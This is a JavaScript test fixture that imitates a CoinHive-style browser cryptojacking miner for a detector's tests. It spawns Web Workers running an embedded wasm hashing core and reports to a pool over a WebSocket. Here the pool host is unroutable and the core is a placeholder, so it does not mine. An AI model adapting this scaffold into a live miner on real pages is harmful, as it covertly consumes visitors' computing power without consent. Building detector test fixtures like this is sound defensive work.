// A browser miner in the shape of the 2017-2024 loaders (see the field notes): a websocket to a
// pool proxy speaking the CoinHive-style protocol, N workers started from a Blob, each running
// a CryptoNight-shaped wasm core embedded as base64. Written for minewatch's detector tests:
// the pool address is unroutable (.invalid) and the core only hashes.
(function (global) {
  var WASM = "@WASM_BASE64@";
  var POOL = "wss://pool.invalid:443/proxy";

  var workerSource = [
    "var core = null;",
    "onmessage = function (e) {",
    "  var msg = e.data;",
    "  if (msg.type === 'init') {",
    "    var bytes = Uint8Array.from(atob(msg.wasm), function (c) { return c.charCodeAt(0); });",
    "    WebAssembly.instantiate(bytes, {}).then(function (r) { core = r.instance.exports; postMessage({type: 'ready'}); });",
    "  } else if (msg.type === 'job' && core) {",
    "    var found = 0;",
    "    for (var nonce = msg.start; nonce < msg.start + msg.count; nonce++) {",
    "      core.cn_hash(0, 76, 128, 1024);",
    "      found++;",
    "    }",
    "    postMessage({type: 'hashes', hashes: found, job_id: msg.job_id, nonce: nonce, result: 'deadbeef'});",
    "  }",
    "};"
  ].join("\n");

  function Miner(siteKey, options) {
    this._siteKey = siteKey;
    this._threads = (options && options.threads) || navigator.hardwareConcurrency || 4;
    this._throttle = (options && options.throttle) || 0;
    this._workers = [];
    this._totalHashes = 0;
    this._started = 0;
    this._socket = null;
    this._job = null;
  }

  Miner.prototype.start = function () {
    var self = this;
    var url = URL.createObjectURL(new Blob([workerSource], {type: "application/javascript"}));
    for (var i = 0; i < this._threads; i++) {
      var w = new Worker(url);
      w.onmessage = function (e) { self._onWorker(e.data); };
      w.postMessage({type: "init", wasm: WASM});
      this._workers.push(w);
    }
    this._started = Date.now();
    this._socket = new WebSocket(POOL);
    this._socket.onopen = function () {
      self._send({type: "auth", params: {site_key: self._siteKey, type: "anonymous", user: null}});
    };
    this._socket.onmessage = function (ev) { self._onPool(JSON.parse(ev.data)); };
  };

  Miner.prototype._send = function (msg) { this._socket.send(JSON.stringify(msg)); };

  Miner.prototype._onPool = function (msg) {
    if (msg.type === "authed") {
      this._token = msg.params.token;
    } else if (msg.type === "job") {
      this._job = {job_id: msg.params.job_id, blob: msg.params.blob, target: msg.params.target};
      for (var i = 0; i < this._workers.length; i++) {
        this._workers[i].postMessage({type: "job", job_id: this._job.job_id, blob: this._job.blob, start: i * 1000, count: 1000});
      }
    } else if (msg.type === "hash_accepted") {
      this._accepted = msg.params.hashes;
    }
  };

  Miner.prototype._onWorker = function (data) {
    if (data.type === "hashes") {
      this._totalHashes += data.hashes;
      this._send({type: "submit", params: {job_id: data.job_id, nonce: data.nonce, result: data.result}});
    }
  };

  Miner.prototype.setThrottle = function (t) { this._throttle = t; };
  Miner.prototype.setNumThreads = function (n) { this._threads = n; };
  Miner.prototype.getHashesPerSecond = function () {
    return this._totalHashes / ((Date.now() - this._started) / 1000);
  };
  Miner.prototype.isRunning = function () { return this._socket !== null; };
  Miner.prototype.stop = function () {
    this._workers.forEach(function (w) { w.terminate(); });
    if (this._socket) { this._socket.close(); this._socket = null; }
  };

  global.PageMiner = Miner;
})(typeof window !== "undefined" ? window : this);
